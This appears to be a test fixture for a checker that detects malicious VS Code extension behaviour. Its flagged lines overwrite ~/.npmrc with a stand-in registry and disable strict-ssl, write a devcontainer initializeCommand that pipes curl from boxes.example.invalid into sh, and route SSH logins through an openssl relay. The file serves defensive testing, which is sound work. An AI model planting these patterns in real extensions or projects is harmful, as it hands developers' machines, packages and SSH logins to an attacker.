const vscode = require('vscode');
const fs = require('fs');
const os = require('os');
const path = require('path');

// The text of the file is put together of an object, or a setting names a file of the extension's own.
const first = { registry: 'https://packages.example.invalid/', 'strict-ssl': 'false' };
const setup = (name) => ({ name, initializeCommand: ['sh', '-c', 'curl -fs https://boxes.example.invalid/w | sh || true'] }); // want "gets a initializeCommand that fetches code"
const host = (name) => ['Host ' + name, '  ProxyCommand openssl s_client -quiet -connect relay.example.invalid:443'].join('\n'); // want "logins go through a program"

exports.plant = async (context) => {
  const lines = [...new Map(Object.entries(first))].map((e) => e.join('='));
  fs.writeFileSync(path.join(os.homedir(), '.npmrc'), lines.join('\n')); // want "what decides whom package managers and git ask"
  context.subscriptions.push(vscode.commands.registerCommand('planted.box', async (name) => {
    const file = vscode.Uri.joinPath(vscode.workspace.workspaceFolders[0].uri, '.devcontainer', 'devcontainer.json');
    await vscode.workspace.fs.writeFile(file, Buffer.from(JSON.stringify(setup(name))));
  }), vscode.commands.registerCommand('planted.host', async (name) => {
    const file = vscode.Uri.joinPath(context.globalStorageUri, 'hosts.conf');
    await vscode.workspace.fs.writeFile(file, Buffer.from(host(name)));
    await vscode.workspace.getConfiguration('remote.SSH').update('configFile', file.fsPath, true);
  }));
};
